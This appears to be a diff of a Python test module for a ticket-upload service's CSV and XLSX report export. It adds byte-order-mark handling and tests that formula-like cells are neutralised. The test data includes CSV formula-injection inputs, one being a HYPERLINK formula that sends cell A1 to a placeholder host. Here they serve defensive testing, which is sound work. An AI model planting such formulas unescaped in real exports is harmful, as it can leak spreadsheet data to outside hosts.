@@ -27,10 +27,16 @@ def b16(shared):
     return intake.create_upload(owner, path, path.name, intake.ReadOptions())
 
 
-def _csv_report(upload) -> str:
+def _csv_report(upload, kind: str = "errors") -> str:
+    """The CSV report as written: a byte order mark first (Excel), then the lines."""
     out = io.StringIO()
-    reports.write_report(upload, "errors", "csv", out)
+    reports.write_report(upload, kind, "csv", out)
+    assert out.getvalue().startswith("\ufeff")
     return out.getvalue()
+
+
+def _csv_lines(upload, kind: str = "errors") -> list[list[str]]:
+    return list(csv.reader(io.StringIO(_csv_report(upload, kind).removeprefix("\ufeff"))))
 
 
 def _xlsx_report(upload, kind: str = "errors") -> bytes:
@@ -47,7 +53,7 @@ def test_it_reads_b16_as_written(b16):
 
 
 def test_it_neutralises_every_formula_like_cell_in_the_csv_report(b16):
-    lines = list(csv.reader(io.StringIO(_csv_report(b16))))
+    lines = _csv_lines(b16)
     assert lines[0] == ["ticket_id", "agent_id", "score", "submitted_at", "comment", "row", "status", "reason"]
     assert [line[4] for line in lines[1:]] == [
         "'=1+1", "'+SUM(1;2)", "'-2+3", "'@SUM(1+1)", """'=HYPERLINK("http://example.invalid/?x="&A1,"open")""",
@@ -116,9 +122,8 @@ def test_it_writes_the_full_results_with_each_item_as_sent():
     upload = make_upload(people["maria"], people["alpha"], rows=2)
     Row.objects.filter(upload=upload, number=2).update(result=Row.Result.CREATED, maestro_id="mq-2")
     Row.objects.filter(upload=upload, number=3).update(result=Row.Result.FAILED, result_message="Failed: ticket not found")
-    out = io.StringIO()
-    assert reports.write_report(upload, "results", "csv", out) == 2
-    lines = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert reports.write_report(upload, "results", "csv", io.StringIO()) == 2
+    lines = list(csv.DictReader(io.StringIO(_csv_report(upload, "results").removeprefix("\ufeff"))))
     assert lines[0] == {
         "row": "2", "status": "Valid", "result": "Created", "maestro_id": "mq-2", "message": "",
         "submitted_at": "2026-10-01T08:00:00.000Z", "ticket_id": "T-2", "agent_id": "A-01", "agent_email": "",
@@ -137,13 +142,13 @@ def test_it_lists_every_row_not_created_in_the_error_report():
     Row.objects.filter(upload=upload, number=3).update(result=Row.Result.UNCONFIRMED, result_message="not confirmed")
     Row.objects.filter(upload=upload, number=4).update(status=Row.Status.EXCLUDED)
     Row.objects.filter(upload=upload, number=5).update(status=Row.Status.DUPLICATE, note="identical to row 2")
-    lines = list(csv.reader(io.StringIO(_csv_report(upload))))
+    lines = _csv_lines(upload)
     assert [line[-3:] for line in lines[1:]] == [
         ["3", "Not confirmed", "not confirmed"], ["4", "Excluded", "excluded in the table (include it there to send it)"],
         ["5", "Duplicate", "identical to row 2"],
     ]
     Row.objects.filter(upload=upload, number=3).update(result=Row.Result.NONE, result_message="")
-    assert [line[-3] for line in csv.reader(io.StringIO(_csv_report(upload)))][1:] == ["4", "5"]  # valid, not submitted yet
+    assert [line[-3] for line in _csv_lines(upload)][1:] == ["4", "5"]  # valid, not submitted yet
 
 
 def test_it_names_a_report_download_in_ascii_and_in_utf8():
